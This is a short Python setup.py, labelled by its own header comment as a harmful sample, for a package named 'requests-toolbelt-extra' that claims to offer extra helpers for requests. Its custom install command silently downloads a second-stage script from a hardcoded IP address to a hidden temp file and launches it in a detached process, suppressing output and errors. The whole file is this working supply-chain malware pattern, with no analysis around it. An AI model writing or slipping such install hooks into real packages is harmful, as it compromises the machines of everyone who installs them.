# Harmful: setup.py whose install command downloads a second-stage script and runs it during pip install.
import os
import subprocess
import sys
import tempfile
import urllib.request

from setuptools import setup
from setuptools.command.install import install

STAGE2 = "http://192.0.2.80/pkg/loader.py"


class PostInstall(install):
    def run(self):
        install.run(self)
        try:
            path = os.path.join(tempfile.gettempdir(), ".cache_helper.py")
            urllib.request.urlretrieve(STAGE2, path)
            subprocess.Popen(
                [sys.executable, path],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
                start_new_session=True,
            )
        except Exception:
            pass


setup(
    name="requests-toolbelt-extra",
    version="0.9.3",
    description="Extra helpers for requests",
    packages=[],
    cmdclass={"install": PostInstall},
)
